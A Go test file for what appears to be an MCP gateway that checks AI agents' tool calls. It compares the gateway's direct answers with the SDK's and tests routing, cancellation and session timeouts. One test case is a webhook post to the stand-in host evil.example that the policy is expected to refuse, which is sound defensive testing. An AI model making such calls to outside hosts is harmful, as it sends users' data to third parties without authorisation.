package web_test

import (
	"context"
	"fmt"
	"net/http"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"time"

	sdk "github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/gatehouse/gatehouse/internal/auth"
)

// Direct calls (internal/mcp/direct.go): the gateway answers a plain
// tools/call in a session it holds itself, and the SDK answers the rest.

// volatile are the parts of an answer that differ between two runs of the
// same call: ids and times.
var volatile = regexp.MustCompile(`[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}|\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|[+-]\d\d:\d\d)`)

// normalized is a JSON-RPC answer with its ids and times replaced, as a
// comparable value.
func normalized(t *testing.T, answer map[string]any) string {
	t.Helper()
	return volatile.ReplaceAllString(fmt.Sprintf("%#v", answer), "…")
}

// A tools/call answered directly is the SDK's answer to the same call,
// for every kind of outcome: a read that ran, a change that waits for the
// owner, a call refused by the policy, arguments that are not valid, a
// missing rationale or idempotency key, and an idempotent replay. Only the
// framing differs: one JSON object instead of a server-sent event.
func TestMCP_DirectCallAnswersAsTheSDKDoes(t *testing.T) {
	t.Parallel()
	e := newCostEnv(t)
	m := openMCP(t, e.url, e.agent, nil) // its calls go to a new conversation, in approve mode
	cases := []struct {
		name  string
		tool  string
		args  map[string]any
		fresh bool // a new idempotency key each time
	}{
		{"a read", "records.get", map[string]any{"collection": "lookup", "key": "client-01", "rationale": getRationale}, false},
		{"an upstream read", "bench.lookup", map[string]any{"key": "k-1", "rationale": lookupRationale}, false},
		{"a change that waits", "records.put", map[string]any{"collection": "c", "key": "k", "value": map[string]any{"n": 1}, "rationale": "the owner asked for it"}, false},
		{"a refusal", "webhook.post", map[string]any{"url": "https://evil.example/hook", "payload": map[string]any{}, "rationale": "tell the partner about it"}, true},
		{"bad arguments", "records.get", map[string]any{"collection": 5, "rationale": getRationale}, false},
		{"no rationale", "records.get", map[string]any{"collection": "lookup", "key": "client-01"}, false},
		{"no idempotency key", "notes.append", map[string]any{"collection": "c", "key": "k", "text": "x", "rationale": "note what was said"}, false},
		{"a replay", "notes.append", map[string]any{"collection": "c", "key": "k", "text": "x", "rationale": "note what was said", "idempotency_key": "note-0000000000000001"}, false},
	}
	for _, c := range cases {
		answers := map[bool]map[string]any{}
		for _, direct := range []bool{true, false} {
			e.srv.MCPDirectCalls(direct)
			n := e.srv.MCPDirectCallCount()
			m.next = 99 // the same request id both times
			if c.fresh {
				c.args["idempotency_key"] = fmt.Sprintf("fresh-%t-000000000001", direct)
			}
			resp, body := m.post(t, m.callBody(c.tool, c.args), nil)
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("%s (direct %v): %d %s", c.name, direct, resp.StatusCode, body)
			}
			wantType := "text/event-stream"
			if direct {
				wantType = "application/json"
			}
			if ct := resp.Header.Get("Content-Type"); ct != wantType || (e.srv.MCPDirectCallCount()-n == 1) != direct {
				t.Errorf("%s (direct %v): answered as %s, %d directly", c.name, direct, ct, e.srv.MCPDirectCallCount()-n)
			}
			answers[direct] = rpcAnswer(t, resp, body)
		}
		if got, want := normalized(t, answers[true]), normalized(t, answers[false]); got != want {
			t.Errorf("%s: the direct answer is not the SDK's:\ndirect: %s\nSDK:    %s", c.name, got, want)
		}
	}
	e.srv.MCPDirectCalls(true)
}

// What the gateway cannot answer exactly as the SDK would goes to the
// SDK, which answers it as before: a call with _meta (a progress token
// needs the request's own event stream), another protocol version than
// the session's, the SEP-2243 headers, a batch, a duplicated or
// differently spelled member, a tool the session was not shown,
// Gatehouse's own tools (check_proposal), and any other method.
func TestMCP_RequestsTheGatewayDoesNotAnswerGoToTheSDK(t *testing.T) {
	t.Parallel()
	e := newCostEnv(t)
	m := openMCP(t, e.url, e.agent, http.Header{"Gatehouse-Conversation": {e.conv}})
	get := `{"name":"records.get","arguments":{"collection":"lookup","key":"client-01","rationale":"` + getRationale + `"}}`
	for _, c := range []struct {
		name   string
		body   string
		header http.Header
		status int
	}{
		{"a progress token", `{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"records.get","_meta":{"progressToken":"p"},"arguments":{"collection":"lookup","key":"client-01","rationale":"` + getRationale + `"}}}`, nil, 200},
		{"another protocol version", `{"jsonrpc":"2.0","id":3,"method":"tools/call","params":` + get + `}`, http.Header{"Mcp-Protocol-Version": {"2025-06-18"}}, 200},
		{"an Mcp-Name header", `{"jsonrpc":"2.0","id":4,"method":"tools/call","params":` + get + `}`, http.Header{"Mcp-Name": {"records.get"}}, 0},
		{"a batch", `[{"jsonrpc":"2.0","id":5,"method":"tools/call","params":` + get + `}]`, nil, 400},
		{"a duplicated member", `{"jsonrpc":"2.0","id":6,"method":"ping","method":"tools/call","params":` + get + `}`, nil, 0},
		{"a member spelled otherwise", `{"jsonrpc":"2.0","id":7,"Method":"tools/call","method":"ping","params":` + get + `}`, nil, 0},
		{"an unknown tool", `{"jsonrpc":"2.0","id":8,"method":"tools/call","params":{"name":"records.nope","arguments":{}}}`, nil, 200},
		{"check_proposal", `{"jsonrpc":"2.0","id":9,"method":"tools/call","params":{"name":"check_proposal","arguments":{"proposal_id":"00000000-0000-0000-0000-000000000000","rationale":"see what became of it"}}}`, nil, 200},
		{"tools/list", `{"jsonrpc":"2.0","id":10,"method":"tools/list"}`, nil, 200},
	} {
		n := e.srv.MCPDirectCallCount()
		resp, body := m.post(t, c.body, c.header)
		if got := e.srv.MCPDirectCallCount() - n; got != 0 {
			t.Errorf("%s: answered directly", c.name)
		}
		if c.status != 0 && resp.StatusCode != c.status {
			t.Errorf("%s: %d, want %d: %s", c.name, resp.StatusCode, c.status, body)
		}
		if resp.StatusCode == http.StatusOK && !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/event-stream") {
			t.Errorf("%s: the SDK did not answer it: %s", c.name, resp.Header.Get("Content-Type"))
		}
	}
}

// The official Go SDK's client gets its plain calls in a 2025-11-25
// session answered directly and reads them as it reads the SDK's; its
// calls with a progress token go to the SDK, and so do the calls of a
// client of the stateless revision.
func TestMCP_GoSDKClientGetsDirectAnswers(t *testing.T) {
	t.Parallel()
	e := newCostEnv(t)
	s := mcpAt(t, e.url, e.agent, "claude-code")
	n := e.srv.MCPDirectCallCount()
	for range 3 {
		res, text := callTool(t, s, "records.search", map[string]any{"query": "client", "rationale": "find the customer's record"})
		if res.IsError || !strings.Contains(text, `"status":"applied"`) {
			t.Fatalf("records.search: %s", text)
		}
	}
	if got := e.srv.MCPDirectCallCount() - n; got != 3 {
		t.Fatalf("%d of 3 calls answered directly", got)
	}
	n = e.srv.MCPDirectCallCount()
	res, err := s.CallTool(t.Context(), &sdk.CallToolParams{Meta: sdk.Meta{"progressToken": "p-1"}, Name: "records.search",
		Arguments: map[string]any{"query": "client", "rationale": "find the customer's record"}})
	if err != nil || res.IsError {
		t.Fatalf("a call with a progress token: %v %+v", err, res)
	}
	if got := e.srv.MCPDirectCallCount() - n; got != 0 {
		t.Fatal("a call with a progress token was answered directly")
	}
	// A client of the stateless revision (the SDK's default) has no
	// session: the SDK answers it.
	stateless := connectAt(t, e.url, e.agent, "claude-code", nil, nil)
	n = e.srv.MCPDirectCallCount()
	if res, text := callTool(t, stateless, "records.search", map[string]any{"query": "client", "rationale": "find the customer's record"}); res.IsError {
		t.Fatalf("a stateless call: %s", text)
	}
	if got := e.srv.MCPDirectCallCount() - n; got != 0 {
		t.Fatal("a stateless call was answered directly")
	}
}

// An agent that cancels a call answered directly (notifications/cancelled
// with its request id) cancels it as it cancels one the SDK answers: the
// upstream call is cancelled and the upstream told, and the call is
// recorded as failed.
func TestMCP_ACancelledDirectCallCancelsItsUpstreamCall(t *testing.T) {
	t.Parallel()
	f := newFakeUpstream(t)
	e, _ := newEnvPolicy(t, strings.Replace(fmt.Sprintf(upstreamPolicy, f.url), "timeout: 700ms", "timeout: 10s", 1))
	e.user("owner@example.com", auth.RoleMember)
	agent := e.token("owner@example.com", auth.TokenAgent)
	s := e.mustMCP(agent, "claude-code", nil)
	ctx, cancel := context.WithTimeout(t.Context(), 300*time.Millisecond)
	defer cancel()
	if _, err := s.CallTool(ctx, &sdk.CallToolParams{Name: "files.slow", Arguments: map[string]any{"rationale": "wait for the slow tool"}}); err == nil {
		t.Fatal("the cancelled call returned a result")
	}
	waitFor(t, "the upstream to stop the call", func() bool { return f.stopped.Load() == 1 })
	var status, failure string
	waitFor(t, "the call to be recorded", func() bool {
		return e.pool.QueryRow(t.Context(), `SELECT status, coalesce(error, '') FROM proposals WHERE tool = 'files.slow'`).Scan(&status, &failure) == nil
	})
	if status != "failed" || !strings.Contains(failure, "Cancelled by the caller") {
		t.Fatalf("the cancelled call: %s %q", status, failure)
	}
	if e.srv.MCPDirectCallCount() != 1 {
		t.Fatalf("%d calls answered directly, want the cancelled one", e.srv.MCPDirectCallCount())
	}
}

// A session used only by direct calls is in use: it is not closed as
// idle while its calls keep coming, and one left idle for the session
// timeout is closed (its next call is not found) as the SDK closed it.
func TestMCP_DirectCallsKeepASessionOpenAndAnIdleOneCloses(t *testing.T) {
	t.Parallel()
	e := newCostEnv(t)
	const timeout = 1500 * time.Millisecond
	e.srv.MCPSessionTimeout(timeout)
	m := openMCP(t, e.url, e.agent, http.Header{"Gatehouse-Conversation": {e.conv}})
	args := map[string]any{"collection": "lookup", "key": "client-01", "rationale": getRationale}
	n := e.srv.MCPDirectCallCount()
	e.log.start()
	for end := time.Now().Add(2 * timeout); time.Now().Before(end); time.Sleep(timeout / 5) {
		m.call(t, "records.get", args)
	}
	if _, sql := e.log.stop(); strings.Contains(sql, "GetLiveMCPSession") {
		// Closed as idle while in use, and taken up again from its row.
		t.Fatalf("the session was closed while its calls kept coming:\n%s", sql)
	}
	if e.srv.MCPDirectCallCount() == n {
		t.Fatal("no call was answered directly")
	}
	time.Sleep(timeout + 500*time.Millisecond)
	waitFor(t, "the idle session to close", func() bool { return e.srv.MCPLiveSessions() == 0 })
	resp, body := m.post(t, m.callBody("records.get", args), nil)
	if resp.StatusCode != http.StatusNotFound {
		t.Fatalf("a call in the session closed as idle: %d %s", resp.StatusCode, body)
	}
}

// The normalization of answers keeps what tells them apart.
func TestNormalized_KeepsWhatDiffers(t *testing.T) {
	t.Parallel()
	a := map[string]any{"id": 1.0, "result": map[string]any{"text": "proposal 0b9f9a4e-7d5f-4c55-9a4d-5d1c1f0e3a11 at 2026-11-27T18:49:58Z"}}
	b := map[string]any{"id": 1.0, "result": map[string]any{"text": "proposal 1c9f9a4e-7d5f-4c55-9a4d-5d1c1f0e3a11 at 2026-11-28T01:02:03.5+01:00"}}
	c := map[string]any{"id": 1.0, "result": map[string]any{"text": "proposal 1c9f9a4e-7d5f-4c55-9a4d-5d1c1f0e3a11 failed"}}
	if normalized(t, a) != normalized(t, b) || normalized(t, a) == normalized(t, c) || reflect.DeepEqual(a, b) {
		t.Fatal("normalized")
	}
}
